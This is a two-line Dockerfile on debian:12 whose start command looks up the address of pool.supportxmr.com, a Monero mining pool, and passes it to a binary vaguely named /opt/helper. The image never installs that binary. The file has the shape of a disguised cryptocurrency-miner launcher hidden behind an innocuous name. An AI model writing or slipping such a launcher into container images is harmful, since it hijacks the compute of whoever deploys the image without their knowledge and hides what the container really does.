FROM debian:12
CMD ADDRESS=$(dig +short pool.supportxmr.com | head -1); exec /opt/helper "$ADDRESS"
